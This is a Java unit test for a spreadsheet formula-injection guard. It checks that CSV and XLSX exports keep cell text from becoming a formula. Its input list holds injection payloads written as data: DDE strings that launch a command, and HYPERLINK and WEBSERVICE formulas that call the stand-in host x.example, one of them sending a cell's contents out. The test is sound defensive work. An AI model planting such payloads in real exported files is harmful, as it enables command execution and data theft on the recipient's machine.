package app.kontor.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** R50 and R48: nothing that is written becomes a formula, and every text comes back as it was. */
class FormulaGuardTest {

    @ParameterizedTest
    @MethodSource("texts")
    void textStaysTextInACsv(String text) {
        String csv = new String(TableWriter.csv(table(text)), StandardCharsets.UTF_8);
        assertThat(csv.lines().skip(1).findFirst().orElseThrow().substring(0, 2)).doesNotMatch("\"[=+\\-@\\t\\r\\n＝＋－＠]");
        assertThat(back(TableWriter.csv(table(text)))).isEqualTo(text.strip());
    }

    @ParameterizedTest
    @MethodSource("texts")
    void textStaysTextInAWorkbook(String text) {
        assertThat(back(TableWriter.xlsx(table(text)))).isEqualTo(text.strip());
    }

    static Stream<String> texts() {
        return Stream.of(
                "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "=WEBSERVICE(\"http://x.example\")",
                "+49 171 2345678", "+1+cmd|' /C calc'!A0", "-1+1", "-2", "@SUM(1+1)", "@user", "\t=1+1", "\r=1+1", "\n=1+1",
                "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "'quoted'", "'", "''", "O'Neil",
                "0017", "02138", "90.750", "4006381333931", "1E5", "9.78E+12", "1-2", "TRUE", "12/11/2026", "",
                "a;=1+1", "a\",=1+1", "a\n=1+1", "\"=1+1\"", "DDE(\"x\")", "%0A=1+1");
    }

    /** The text in the first column: in a second one no delimiter is guessed from it. */
    private static Table table(String text) {
        return new Table("t", List.of("text", "other", "third"), List.of(List.of(text, "x", "y")));
    }

    private static String back(byte[] file) {
        return new SpreadsheetReader().read(file, SpreadsheetHints.NONE).sheets().getFirst().rows().get(1).cell(0);
    }
}
